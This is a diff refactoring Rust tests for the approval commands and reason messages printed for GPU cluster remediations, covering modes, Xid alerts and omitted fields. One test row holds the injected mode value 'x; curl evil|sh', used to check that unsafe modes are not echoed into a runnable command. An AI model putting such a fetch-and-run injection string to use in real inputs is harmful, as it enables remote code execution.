@@ -2,10 +2,9 @@
 
 use super::*;
 use crate::{
-    api::remediation::RemediationSpec,
     store::summary::rollup,
-    sync::{change::MirrorChange, events::events_for},
-    testing::{CLUSTER, at, index},
+    sync::events::events_for,
+    testing::{CLUSTER, at, creation, index},
 };
 
 /// What is told of one that awaits approval: in its conditions, in the Event and in the condition of its `ClusterWatch`.
@@ -19,13 +18,9 @@ fn told(id: &str, mode: Option<&str>) -> Vec<String> {
     let mut all: Vec<_> = ["Succeeded", "Reconciling"]
         .map(|type_| condition(&status.conditions, type_).message.clone())
         .into();
-    let spec = RemediationSpec {
-        cluster_id: CLUSTER.into(),
-        id: id.into(),
-    };
-    let create = MirrorChange::Create(Box::new(status), spec);
     let news = Some(at("2026-11-23T08:00:00Z"));
-    all.extend(events_for(&create, news).into_iter().map(|said| said.note));
+    let events = events_for(&creation(&waits), news).into_iter();
+    all.extend(events.map(|said| said.note));
     let index = index(&[waits]);
     let mirrors = index.mirrors(crate::testing::NAMESPACE, CLUSTER, None, |_| true);
     let mirrors = mirrors.iter().map(|(name, mirror)| (&**name, &**mirror));
@@ -40,23 +35,7 @@ fn the_command_approves_the_mode_that_is_mirrored_and_no_other() {
     let first = "Check that the mode is still";
     let unknown = format!("Check the mode, then approve: {command}");
     // The mode as the API has it, what is told.
-    let table = [
-        (
-            Some("VM_ONLY"),
-            format!("To approve: {command} --mode VM_ONLY"),
-        ),
-        (
-            Some("HOST_AWARE"),
-            format!("To approve: {command} --mode HOST_AWARE"),
-        ),
-        (
-            Some("EVICT_WITHOUT_REPLACEMENT"),
-            format!("To approve: {command} --mode EVICT_WITHOUT_REPLACEMENT"),
-        ),
-        (
-            Some("REBOOT_VM"),
-            format!("To approve: {command} --mode REBOOT_VM"),
-        ),
+    let mut table = vec![
         (
             Some("HOST_POWER_CYCLE"),
             format!("{first} HOST_POWER_CYCLE, then approve: {command}"),
@@ -65,6 +44,14 @@ fn the_command_approves_the_mode_that_is_mirrored_and_no_other() {
         (Some("x; curl evil|sh"), unknown.clone()),
         (None, unknown),
     ];
+    for mode in [
+        "VM_ONLY",
+        "HOST_AWARE",
+        "EVICT_WITHOUT_REPLACEMENT",
+        "REBOOT_VM",
+    ] {
+        table.push((Some(mode), format!("To approve: {command} --mode {mode}")));
+    }
     for (mode, wanted) in table {
         let mode = mode.map(|mode| format!("REMEDIATION_MODE_{mode}"));
         for message in told("rem-1", mode.as_deref()) {
@@ -83,10 +70,8 @@ fn a_command_is_printed_for_plain_ids_alone() {
         "9f0c8a52-7d0e-4a39-9c1a-000000000001",
     ] {
         for message in told(id, Some("REMEDIATION_MODE_REBOOT_VM")) {
-            assert!(
-                message.ends_with(&format!(" approve {id} --mode REBOOT_VM")),
-                "{message}"
-            );
+            let command = format!(" approve {id} --mode REBOOT_VM");
+            assert!(message.ends_with(&command), "{message}");
         }
     }
     for id in [
@@ -157,44 +142,27 @@ fn the_message_says_why_with_the_xids_of_the_first_alert() {
             .collect(),
         ..together::LinkedAlert::default()
     };
-    let nothing = || alert("", None, &[]);
+    let nameless = |codes| together::LinkedAlert {
+        name: None,
+        ..alert("", None, codes)
+    };
+    let titled = |codes| alert("A", Some("t"), codes);
+    let later = alert("B", Some("u"), &[79]);
     // The reason, the alerts, what the message says.
     let table = [
         (None, vec![], ""),
         (Some("lost"), vec![], " (lost)"),
-        (
-            Some("lost"),
-            vec![alert("A", Some("t"), &[79])],
-            " (lost, Xid 79)",
-        ),
-        (None, vec![alert("A", Some("t"), &[79])], " (t, Xid 79)"),
+        (Some("lost"), vec![titled(&[79])], " (lost, Xid 79)"),
+        (None, vec![titled(&[79])], " (t, Xid 79)"),
         (
             None,
             vec![alert("A", None, &[94, 79, 94])],
             " (A, Xid 79, 94)",
         ),
-        (None, vec![alert("A", Some("t"), &[])], " (t)"),
-        (
-            None,
-            vec![alert("A", Some("t"), &[]), alert("B", Some("u"), &[79])],
-            " (t)",
-        ),
-        (
-            None,
-            vec![together::LinkedAlert {
-                name: None,
-                ..alert("", None, &[79])
-            }],
-            " (Xid 79)",
-        ),
-        (
-            None,
-            vec![together::LinkedAlert {
-                name: None,
-                ..nothing()
-            }],
-            "",
-        ),
+        (None, vec![titled(&[])], " (t)"),
+        (None, vec![titled(&[]), later], " (t)"),
+        (None, vec![nameless(&[79])], " (Xid 79)"),
+        (None, vec![nameless(&[])], ""),
     ];
     let command = format!(
         "tg clusters remediations approve {} --mode REBOOT_VM",
@@ -216,8 +184,6 @@ fn what_is_omitted_is_no_cause() {
     assert!(with(&[OmitField::LinkedAlerts]).contains(" (lost)."));
     assert!(with(&[OmitField::Reason]).contains(" (GPU fell off the bus, Xid 79)."));
     let neither = with(&[OmitField::Reason, OmitField::LinkedAlerts]);
-    assert!(
-        neither.contains("since 2026-11-23T09:00:01Z. To approve:"),
-        "{neither}"
-    );
+    let since = "since 2026-11-23T09:00:01Z. To approve:";
+    assert!(neither.contains(since), "{neither}");
 }
